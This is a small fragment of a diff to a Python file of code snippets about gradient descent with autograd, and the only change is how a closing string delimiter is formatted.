 def square_and_grad(x0):
@@ -749,5 +1051,6 @@ def descend(x0, lr, n_iter):
             x -= lr * x.grad
         x.grad.zero_()
     return x
-"""),
+""",
+    ),
 }
